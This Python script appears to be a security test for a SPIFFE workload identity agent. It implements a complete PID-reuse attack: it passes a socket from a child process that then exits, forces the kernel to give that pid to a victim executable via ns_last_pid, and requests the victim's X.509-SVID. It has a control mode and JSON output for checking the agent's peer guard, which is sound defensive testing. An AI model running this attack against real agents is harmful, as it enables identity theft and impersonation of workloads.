"""Tries to get a workload's SVID by PID reuse, the attack the agent's peer guard stops.

  pid_reuse.py [--control] VICTIM_EXE

1. A child process connects to the agent's socket (SPIFFE_ENDPOINT_SOCKET), hands the
   connected socket to this process over SCM_RIGHTS, and exits. The kernel's SO_PEERCRED on
   that connection still names the child's pid.
2. This process makes the kernel give that pid to a new process running VICTIM_EXE (the
   executable a registration entry selects), by setting /proc/sys/kernel/ns_last_pid (root).
3. It then asks for an X.509-SVID over the inherited connection, with py-spiffe talking
   through a local relay. An agent that trusted /proc/<pid> at request time would now see the
   victim and hand its SVID to us.

With --control the child stays alive and no pid is reused: the relayed connection then gets
the child's own identity, which shows the relay works.

Prints JSON: {"reused": bool, "pid": N, "svid": spiffe id or null, "error": text or null}.
"""

import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

from spiffe import WorkloadApiClient


def endpoint_path():
    address = os.environ["SPIFFE_ENDPOINT_SOCKET"]
    for prefix in ("unix://", "unix:"):
        if address.startswith(prefix):
            return address[len(prefix):]
    return address


def connect_in_child(stay):
    """Returns (connected socket inherited from a child, the child's pid). The child exits
    at once unless `stay`, then it lives until killed."""
    parent_end, child_end = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    pid = os.fork()
    if pid == 0:
        parent_end.close()
        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        conn.connect(endpoint_path())
        socket.send_fds(child_end, [b"x"], [conn.fileno()])
        if stay:
            time.sleep(60)
        os._exit(0)
    child_end.close()
    _, fds, _, _ = socket.recv_fds(parent_end, 1, 1)
    if not stay:
        os.waitpid(pid, 0)
    return socket.socket(fileno=fds[0]), pid


def spawn_with_pid(pid, exe):
    """Starts exe (sleeping) with the given pid, or returns None after many tries."""
    for _ in range(200):
        with open("/proc/sys/kernel/ns_last_pid", "w") as f:
            f.write(str(pid - 1))
        victim = subprocess.Popen([exe, "30"])
        if victim.pid == pid:
            return victim
        victim.kill()
        victim.wait()
    return None


def relay(listener, upstream):
    client, _ = listener.accept()

    def pump(source, sink):
        try:
            while True:
                data = source.recv(65536)
                if not data:
                    break
                sink.sendall(data)
        except OSError:
            pass
        finally:
            try:
                sink.shutdown(socket.SHUT_WR)
            except OSError:
                pass

    threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
    threading.Thread(target=pump, args=(upstream, client), daemon=True).start()


def main():
    control = sys.argv[1] == "--control"
    victim_exe = sys.argv[-1]
    inherited, pid = connect_in_child(stay=control)
    victim = None if control else spawn_with_pid(pid, victim_exe)
    result = {"reused": victim is not None, "pid": pid, "svid": None, "error": None}
    try:
        with tempfile.TemporaryDirectory() as tmp:
            path = os.path.join(tmp, "relay.sock")
            listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            listener.bind(path)
            listener.listen(1)
            threading.Thread(target=relay, args=(listener, inherited), daemon=True).start()
            try:
                with WorkloadApiClient("unix:" + path, default_timeout=10) as client:
                    result["svid"] = str(client.fetch_x509_svid().spiffe_id)
            except Exception as error:  # what the agent said, whatever the class
                result["error"] = str(error)
    finally:
        if victim is not None:
            victim.kill()
            victim.wait()
        if control:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
